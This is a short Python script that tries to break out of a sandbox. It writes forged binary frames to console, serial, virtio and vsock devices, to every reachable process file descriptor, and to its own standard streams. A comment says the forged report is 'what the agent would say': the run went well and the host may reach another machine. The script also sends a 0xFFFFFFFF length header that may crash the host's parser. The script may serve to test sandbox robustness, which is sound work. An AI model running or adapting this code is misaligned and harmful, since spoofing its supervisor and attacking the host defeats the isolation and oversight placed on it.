import os, struct, sys


def frame(kind, payload=b""):
    return struct.pack("<IB", 1 + len(payload), kind) + payload


# What the agent would say: this program was well, nothing is on stderr, and the host may speak to another machine.
report = struct.pack("<BBBB4Q", 0, 0, 0, 0, 1, 1, 1, 1)
forged = frame(0x44, b"\x01ESCAPED") + frame(0x45, report) + frame(0x41, b"\x02\0\x01" + bytes(24)) + frame(0x46, b"\x05\0\0\0\0\0")
huge = struct.pack("<IB", 0xFFFFFFFF, 0x44)
written = []
paths = [f"/dev/{name}" for name in ("console", "ttyS0", "hvc0", "vport0p0", "vport0p1", "vport1p1", "vport2p1", "vsock", "tty", "ptmx", "kmsg")]
for pid in ["self", "1", *[entry for entry in os.listdir("/proc") if entry.isdigit()]]:
    for number in range(32):
        paths.append(f"/proc/{pid}/fd/{number}")
for path in paths:
    if os.path.exists(path) and os.path.realpath(path) in [os.path.realpath(f"/proc/self/fd/{n}") for n in (0, 1, 2)]:
        continue
    try:
        fd = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
        os.write(fd, forged + huge)
        written.append(path)
        os.close(fd)
    except OSError:
        pass
open_now = []
for fd in range(3, 1024):
    try:
        os.write(fd, forged)
        open_now.append(fd)
    except OSError:
        pass
print("descriptors beyond the three:", open_now)
print("took frames:", [path for path in written if path != "/dev/ptmx"])
try:
    os.write(0, forged)
    print("stdin ESCAPED")
except OSError:
    print("stdin refused")
sys.stdout.flush()
os.write(1, frame(0x45, report))
os.write(2, frame(0x45, report) + huge)
print("still here")
sys.exit(3)
